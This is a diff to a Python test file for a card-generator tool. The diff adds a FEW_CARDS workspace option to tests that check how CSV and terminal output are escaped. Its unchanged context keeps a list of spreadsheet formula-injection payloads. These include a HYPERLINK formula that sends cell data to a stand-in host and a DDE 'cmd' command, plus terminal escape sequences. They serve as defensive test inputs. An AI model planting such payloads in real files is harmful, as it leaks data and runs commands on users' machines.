@@ -13,7 +13,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from conftest import DECK_YAML, make_workspace, run
+from conftest import DECK_YAML, FEW_CARDS, make_workspace, run
 from pnpgen.safetext import CONTROL, csv_cell, csv_text, shown, shown_name
 
 EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"]
@@ -144,7 +144,7 @@ def test_a_csv_cell_beyond_the_readers_limit_is_said_in_words(tmp_path, capsys, 
 
 
 def test_terminal_output_escapes_what_it_echoes(tmp_path, capsys):
-    ws = make_workspace(tmp_path / "ws")
+    ws = make_workspace(tmp_path / "ws", pieces=FEW_CARDS)
     assert run(ws, "build", "--game", "no\x1b]0;title\x07pe") == 2
     err = capsys.readouterr().err
     assert "\x1b" not in err and "\x07" not in err
@@ -173,7 +173,7 @@ def test_a_control_character_in_a_deck_or_game_folders_name_is_one_line(tmp_path
     'the template produced invalid SVG'."""
     import shutil
 
-    ws = make_workspace(tmp_path / "ws")
+    ws = make_workspace(tmp_path / "ws", pieces=FEW_CARDS)
     if where == "deck":
         decks = ws / "data" / "test" / "decks"
         shutil.copy(decks / "cards.yaml", decks / f"{name}.yaml")
@@ -191,7 +191,7 @@ def test_a_control_character_in_a_deck_or_game_folders_name_is_one_line(tmp_path
 
 def test_a_game_name_typed_with_a_control_character_is_an_unknown_game(tmp_path, capsys):
     """--game with an escape typed (no such folder): it was told to rename a game folder that is not there."""
-    ws = make_workspace(tmp_path / "ws")
+    ws = make_workspace(tmp_path / "ws", pieces=FEW_CARDS)
     capsys.readouterr()
     assert run(ws, "check", "--game", "test\x1b[31m") == 2
     err = capsys.readouterr().err
